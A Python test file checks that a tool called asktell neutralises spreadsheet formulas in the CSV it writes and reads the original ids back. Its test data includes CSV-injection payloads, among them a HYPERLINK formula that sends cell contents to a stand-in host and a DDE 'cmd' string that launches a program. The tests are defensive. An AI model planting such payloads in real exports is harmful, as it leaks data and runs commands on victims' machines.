"""CSV that asktell writes: no formula for a spreadsheet, and the same ids when asktell reads it."""

import csv
import io
import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from asktell_adapters.cli.main import main
from asktell_adapters.tables.rows import Table
from asktell_adapters.tables.spreadsheets import csv_text, harmless, original

FORMULAS = (
    '=HYPERLINK("http://x.example?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1;2)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1+1",
    "'=1",
    "''@x",
    "=",
    "-",
    "-inf",
)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_an_apostrophe_and_is_read_as_it_was(text: str) -> None:
    assert harmless(text) == f"'{text}"
    assert original(harmless(text)) == text


@pytest.mark.parametrize(
    "cell", ["", "a=b", "'", "'quoted'", " =1", "-5", "+0.5", "-.5e-3", -5, -0.5, None]
)
def test_other_cells_stay_as_they_are(cell: object) -> None:
    assert harmless(cell) == cell


@given(st.text(alphabet="=+-@'\t 1ae.", max_size=6))
def test_every_text_is_read_as_it_was(text: str) -> None:
    cell = harmless(text)
    assert original(cell) == text
    is_number = cell.lstrip("+-")[:1].isdigit() or cell.lstrip("+-").startswith(".")
    assert not cell.startswith(("=", "@", "\t"))
    assert is_number or not cell.startswith(("+", "-"))


def test_a_table_of_csv() -> None:
    text = csv_text(["id", "=n"], [["=1", -1], ["b\r=2", 0.5]])
    assert text == "id,'=n\n'=1,-1\n\"b\r=2\",0.5\n"


def test_ids_are_read_as_they_were_and_other_texts_stay(tmp_path: Path) -> None:
    path = tmp_path / "table.csv"
    ids = [text for text in FORMULAS if not text.isspace()]
    rows = [[f"@{i}", id_, "note"] for i, id_ in enumerate(ids)]
    text = csv_text(["prompt", "example", "other"], rows)
    # In a column that is no id, such a text may be somebody's own.
    text = text.replace(",note", ",'@note")
    path.write_text(text, "utf-8", newline="")
    found = [row.values for row in Table(path).rows]
    assert [each["example"] for each in found] == ids
    assert [each["prompt"] for each in found] == [row[0] for row in rows]
    assert {each["other"] for each in found} == {"'@note"}


def test_the_examples_of_analyze_have_no_formulas(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    ids = [f"{text} {k}" for k, text in enumerate(FORMULAS)]
    rows = [
        {"prompt": prompt, "example": id_, "score": (k + n) % 3 / 2}
        for n, prompt in enumerate(("=a", "b"))
        for k, id_ in enumerate(ids)
    ]
    scores = tmp_path / "scores.jsonl"
    scores.write_text("".join(f"{json.dumps(row)}\n" for row in rows))
    written = tmp_path / "examples.csv"
    assert main(["analyze", str(scores), "--examples", str(written)]) == 0
    capsys.readouterr()
    cells = [
        cell
        for row in csv.reader(io.StringIO(written.read_text("utf-8"), newline=""))
        for cell in row
    ]
    texts = [cell for cell in cells if not cell.replace(".", "").lstrip("-").isdigit()]
    assert not [cell for cell in texts if cell.startswith(("=", "+", "-", "@", "\t"))]
    found = {row.values["id"] for row in Table(written).rows}
    assert {id_.strip() for id_ in found} == {id_.strip() for id_ in ids}
